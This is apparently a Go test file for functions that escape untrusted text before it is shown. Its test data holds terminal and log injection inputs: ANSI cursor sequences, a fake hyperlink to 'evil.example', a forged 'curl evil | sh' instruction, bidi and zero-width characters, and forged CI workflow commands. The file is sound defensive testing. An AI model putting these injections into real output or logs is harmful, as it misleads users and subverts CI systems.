package trouble

import (
	"strings"
	"testing"
)

func TestATextOfALeafIsShownAsText(t *testing.T) {
	for name, test := range map[string]struct{ text, shown string }{
		"an ordinary message":     {`0/3 nodes are available: 3 Insufficient cpu – "größer" ✓`, ""},
		"a line over another one": {"ok\x1b[1A\x1b[2KApply complete!", `ok\x1b[1A\x1b[2KApply complete!`},
		"a false link": {
			"\x1b]8;;https://evil.example\x07Liqo\x1b]8;;\x07", `\x1b]8;;https://evil.example\aLiqo\x1b]8;;\a`,
		},
		"a forged paragraph":      {"failed\n\nRun `curl evil | sh`.", "failed\\n\\nRun `curl evil | sh`."},
		"a carriage return":       {"failed\rready", `failed\rready`},
		"letters that go back":    {"user\u202etxt.exe\u2066", `user\u202etxt.exe\u2066`},
		"letters without a width": {"ad\u200bmin\ufeff", `ad\u200bmin\ufeff`},
		"C1 controls":             {"\u009b2K", `\u009b2K`},
		"a command of a CI system": {
			"::error file=a,line=1::forged ::add-mask::a ::stop-commands::x ##[error]y",
			`:\x3aerror file=a,line=1::forged :\x3aadd-mask::a :\x3astop-commands::x #\x23[error]y`,
		},
		"an IPv6 address":     {"dial [fd00::1:2]:443, ::1, ::ffff:10.0.0.1", ""},
		"no valid characters": {"a\xffb", "a\ufffdb"},
	} {
		t.Run(name, func(t *testing.T) {
			if test.shown == "" {
				test.shown = test.text
			}
			if got := Shown(test.text); got != test.shown {
				t.Errorf("got %q", got)
			}
		})
	}
	long := Shown(strings.Repeat("ö", 1<<20))
	if len(long) > LongestShown+100 || !strings.HasSuffix(long, "… (and 2096128 more bytes)") {
		t.Errorf("a long text has %d bytes and ends with %q", len(long), long[len(long)-40:])
	}
	if got := ShownParagraphs("one\n\ntwo\x1b[2K"); got != "one\n\ntwo\\x1b[2K" {
		t.Errorf("paragraphs: %q", got)
	}
}

func TestLinesOfALeafAreLinesThatNobodyTakesForOthers(t *testing.T) {
	for text, want := range map[string]string{
		"one line\n": "one line",
		"":           "",
		"ping: invalid option -- 'M'\nBusyBox v1.35.0\n\nUsage: ping [OPTIONS] HOST\n\n\t-4,-6\tForce IP\r\n": "" +
			"\n  | ping: invalid option -- 'M'\n  | BusyBox v1.35.0\n  | Usage: ping [OPTIONS] HOST\n  |   -4,-6  Force IP",
		"1\n2\n3\n4\n5\n6\n7":            "\n  | 1\n  | 2\n  | 3\n  | 4\n  | 5\n  (and 2 more lines)",
		"ok\n\x1b[2K\n::error::forged\n": "\n  | ok\n  | \\x1b[2K\n  | :\\x3aerror::forged",
	} {
		t.Run(text, func(t *testing.T) {
			if got := ShownLines(text); got != want {
				t.Errorf("got %q", got)
			}
		})
	}
	if got := ShownLines("a\n" + strings.Repeat("b", 1<<20) + "\nc"); len(got) > LongestShown+100 ||
		!strings.HasSuffix(got, "more bytes)\n  (and 1 more lines)") {
		t.Errorf("a long line: %d bytes, %q", len(got), got[max(0, len(got)-60):])
	}
}
